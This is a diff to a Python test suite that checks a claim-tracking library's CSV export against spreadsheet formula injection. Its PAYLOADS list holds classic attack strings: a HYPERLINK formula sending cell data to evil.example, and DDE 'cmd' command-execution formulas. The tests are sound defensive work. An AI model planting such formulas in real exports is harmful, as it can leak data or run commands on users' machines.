@@ -11,11 +11,12 @@ import types
 import xml.etree.ElementTree as ET
 
 import pytest
-from hypothesis import given
+from hypothesis import given, reject
+from hypothesis import strategies as st
 
 import claimtrack as ct
 from claimtrack import reports
-from claimtrack._records import clean
+from claimtrack._records import FORMULA_STARTS, clean, neutral
 
 from .trackers import HOSTILE, trackers
 
@@ -24,6 +25,8 @@ AT = "2025-02-05T09:00:00+00:00"
 LATER = "2025-02-06T09:00:00+00:00"
 TEXT = "Rubio said the deal is agreed. Bukele said they were finalizing one."
 G = "{http://graphml.graphdrawing.org/xmlns}"
+NUMBER = re.compile(r"-?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
+"""A plain number, as the tests read one, apart from the code's."""
 
 
 @pytest.fixture(name="tracker")
@@ -270,11 +273,11 @@ class TestToRecords:
     @given(trackers())
     def test_csv_round_trip(self, tracker):
         """
-        Every kind of record reads back from its CSV as it was written.
+        Every kind of record reads back from its raw CSV as it was written.
         """
         for what in reports.COLUMNS:
             rows = tracker.to_records(what)
-            text = reports.to_csv(tracker, what)
+            text = reports.to_csv(tracker, what, raw=True)
 
             assert [as_csv_cells(r) for r in rows] == parse_csv(text)
 
@@ -284,6 +287,175 @@ class TestToRecords:
         """
         with pytest.raises(ct.InvalidValueError):
             reports.to_csv(tracker, "claimz")
+
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+    "=cmd|' /C calc'!A0",
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-5 percent",
+    "-",
+    "+5",
+]
+"""The classic CSV injection payloads, and text that only looks numeric."""
+
+formula_texts = st.tuples(
+    st.sampled_from([*FORMULA_STARTS, "", "'", " ", "-1", "-1e"]),
+    st.text(st.characters(codec="utf-8"), max_size=20),
+).map("".join)
+"""Text that often starts as a formula does."""
+
+
+def csv_cells(text):
+    """
+    Every cell of CSV text but its header row.
+    """
+    return [cell for row in parse_csv(text) for cell in row.values()]
+
+
+class TestCsvFormulas:
+    """
+    No text cell of a CSV starts as a formula, unless raw; numbers stay.
+    """
+
+    @pytest.mark.parametrize("payload", PAYLOADS)
+    def test_classic_payloads(self, payload):
+        """
+        A payload in a claim, a name, a tag, a note and an id is written
+        with a quote before it, and as it is when raw.
+        """
+        t = ct.Tracker()
+        t.add_actor(ct.Actor("a", payload, role=payload), by="a", at=AT)
+        claim = t.add_claim(
+            payload, speaker="a", tags=[payload], id=payload, by="a", at=AT
+        )
+        t.corroborate(
+            claim, evidence="https://x.example/", note=payload, by="a", at=AT
+        )
+        t.rate(claim, "false", rationale=payload, by="a", at=AT)
+
+        for what in reports.COLUMNS:
+            cells = csv_cells(reports.to_csv(t, what))
+            raw = csv_cells(reports.to_csv(t, what, raw=True))
+
+            assert payload not in cells
+            assert (payload in raw) == ("'" + payload in cells), what
+        assert {"'" + payload} == {
+            parse_csv(reports.to_csv(t))[0][column]
+            for column in ("id", "text", "speaker_name", "tags")
+        }
+
+    @pytest.mark.parametrize(
+        ("value", "written"),
+        [
+            ("-5", "-5"),
+            ("-2.5", "-2.5"),
+            ("-1e3", "-1e3"),
+            ("-.5", "-.5"),
+            ("-5.", "-5."),
+            ("-1E-3", "-1E-3"),
+            ("-5 percent", "'-5 percent"),
+            ("-5%", "'-5%"),
+            ("-1+1", "'-1+1"),
+            ("-1e", "'-1e"),
+            ("-", "'-"),
+            ("--5", "'--5"),
+            ("-٣", "'-٣"),
+            ("-5\n", "'-5\n"),
+            ("+5", "'+5"),
+            ("@5", "'@5"),
+            ("'=1", "'=1"),
+            (" =1", " =1"),
+            ("5-1", "5-1"),
+            ("", ""),
+            (-5, -5),
+            (-2.5, -2.5),
+            (True, True),
+            (None, None),
+        ],
+    )
+    def test_neutral(self, value, written):
+        """
+        Text that starts as a formula gets a quote; a plain number, text
+        or not, stays as it is.
+        """
+        assert written == neutral(value)
+
+    def test_negative_quantity_stays_a_number(self):
+        """
+        A negative quantity's value is written as the number it is, and
+        one with a unit, which is text, gets the quote.
+        """
+        t = ct.Tracker()
+        t.add_actor(ct.Actor("a", "A"), by="a", at=AT)
+        for n, thing in enumerate([-5, ct.Quantity(-5, "percent")]):
+            t.add_claim(
+                "Spending changed",
+                speaker="a",
+                id=f"c{n}",
+                proposition=ct.Proposition("spending", "changed_by", thing),
+                by="a",
+                at=AT,
+            )
+
+        rows = parse_csv(reports.to_csv(t))
+
+        assert ["-5", "'-5 percent"] == [r["object"] for r in rows]
+
+    def test_raw_must_be_a_bool(self, tracker):
+        """
+        raw is True or False, nothing else.
+        """
+        with pytest.raises(ct.InvalidTypeError) as e:
+            reports.to_csv(tracker, raw="yes")
+
+        assert ("raw", "yes") == (e.value.field, e.value.value)
+
+    @given(formula_texts)
+    def test_any_text_round_trips(self, text):
+        """
+        Any claim text reads back from the CSV as it was, or with one
+        quote before it; it never starts as a formula unless raw or a
+        plain number.
+        """
+        t = ct.Tracker()
+        t.add_actor(ct.Actor("a", "A"), by="a", at=AT)
+        try:
+            claim = t.add_claim(text, speaker="a", id="c", by="a", at=AT)
+        except ct.ClaimtrackError:
+            reject()  # text the model refuses is not the CSV's concern
+
+        written = parse_csv(reports.to_csv(t))[0]["text"]
+        raw = parse_csv(reports.to_csv(t, raw=True))[0]["text"]
+
+        assert claim.text == raw
+        assert written in (claim.text, "'" + claim.text)
+        assert (written == claim.text) == (
+            not claim.text.startswith(FORMULA_STARTS)
+            or NUMBER.fullmatch(claim.text) is not None
+        )
+
+    @given(trackers())
+    def test_no_cell_starts_as_a_formula(self, tracker):
+        """
+        In every kind of record, each cell is its raw cell or that with a
+        quote before it, and none starts as a formula but a plain number.
+        """
+        for what in reports.COLUMNS:
+            cells = csv_cells(reports.to_csv(tracker, what))
+            raw = csv_cells(reports.to_csv(tracker, what, raw=True))
+
+            for cell, as_is in zip(cells, raw, strict=True):
+                assert cell in (as_is, "'" + as_is)
+                assert (
+                    not cell.startswith(FORMULA_STARTS)
+                    or NUMBER.fullmatch(cell) is not None
+                )
 
 
 class TestToDataframe:
